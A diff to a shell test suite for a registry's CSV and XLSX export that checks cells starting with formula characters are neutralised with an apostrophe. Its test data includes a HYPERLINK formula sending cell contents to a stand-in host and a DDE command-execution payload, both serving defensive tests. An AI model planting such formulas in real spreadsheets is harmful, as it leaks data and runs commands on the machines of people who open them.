@@ -6,8 +6,8 @@
 # columns under the same scope rule; records of a programme have a column per
 # item with the checklist's labels (ids with --codes) and proof columns; the
 # hazard ledger and the overdue list; CSV read back with a CSV reader and
-# XLSX unzipped: no cell is a formula (CSV text starting with = + - @ TAB
-# gets an apostrophe, XLSX text is a string cell with its text kept), and
+# XLSX unzipped: no cell is a formula, text starting with = + - @ TAB or CR
+# gets an apostrophe in both (XLSX text is also always a string cell), and
 # numbers stay numbers.
 . "$(dirname "$0")/../lib.sh"
 . "$(dirname "$0")/common.inc"
@@ -100,6 +100,12 @@ else:
                 elif t == "s":
                     v = shared[int(c.find("m:v", NS).text)]
                 else:
+                    v = None
+                if v is not None:
+                    # Text cells: the same first-character rule as the CSV.
+                    if v and v[0] in "=+-@\t\r" and not num.match(v):
+                        out["guarded_bad"].append(v)
+                else:
                     v = c.find("m:v", NS).text
                     nums.append((len(rows), col - 1))
                 cells.append(v)
@@ -160,7 +166,7 @@ for f in csv xlsx; do
 	S=$([ $f = csv ] && echo csv || echo hazards)
 	ok "($f) the hazards of H1 with H1's address" \
 	    test "$(rd "$T/hz.$f" "sorted(set(a for a, h in zip(col('$S', '地址'), col('$S', '住户')) if h == 'H1'))")" = \
-	    "$(rd "$T/hz.$f" "[('' if '$f' == 'xlsx' else \"'\") + '=HYPERLINK(\"http://x.example/?\"&A1,\"click\")']")"
+	    "$(rd "$T/hz.$f" "[\"'\" + '=HYPERLINK(\"http://x.example/?\"&A1,\"click\")']")"
 	ok "($f) found, deadline, state and the record that raised each" \
 	    test "$(rd "$T/hz.$f" "all(col('$S', '记录')) and all(col('$S', '发现')) and set(col('$S', '状态')) == {'open'}")" = True
 	expect_exit 0 "export overdue --format $f" X overdue --format $f --out "$T/od.$f"
@@ -168,12 +174,20 @@ for f in csv xlsx; do
 	ok "($f) the never-inspected catering unit H4 is overdue, the inspected ones are not" \
 	    test "$(rd "$T/od.$f" "sorted(set(col('$S', '住户')))")" = "['H4']"
 done
-ok "(xlsx) formula-like registry text kept exactly, as text" \
-    test "$(rd "$T/od.xlsx" "col('overdue', '地址') == [\"=cmd|' /C calc'!A0\"]")" = True
+ok "(xlsx) formula-like registry text in a text cell after an apostrophe, as in the CSV" \
+    test "$(rd "$T/od.xlsx" "col('overdue', '地址') == [\"'=cmd|' /C calc'!A0\"]")" = True
 ok "(csv) the same cell guarded with an apostrophe" \
     test "$(rd "$T/od.csv" "col('csv', '地址')")" = "[\"'=cmd|' /C calc'!A0\"]"
 ok "(xlsx) no formula in the hazards or overdue sheets" \
     test "$(rd "$T/hz.xlsx" 'j["formulas"]')$(rd "$T/od.xlsx" 'j["formulas"]')" = 00
+for x in rec hz od; do
+	ok "($x.xlsx) no text cell starts with = + - @ TAB or CR unguarded (every cell read back)" \
+	    test "$(rd "$T/$x.xlsx" 'j["guarded_bad"]')" = "[]"
+done
+for x in hz od; do
+	ok "($x.csv) no CSV cell starts with = + - @ TAB or CR unguarded" \
+	    test "$(rd "$T/$x.csv" 'j["guarded_bad"]')" = "[]"
+done
 
 # The scope rule.
 expect_exit 0 "export --as sup1 keeps sup1's district" X hazards --as sup1 --format csv --out "$T/sup1.csv"
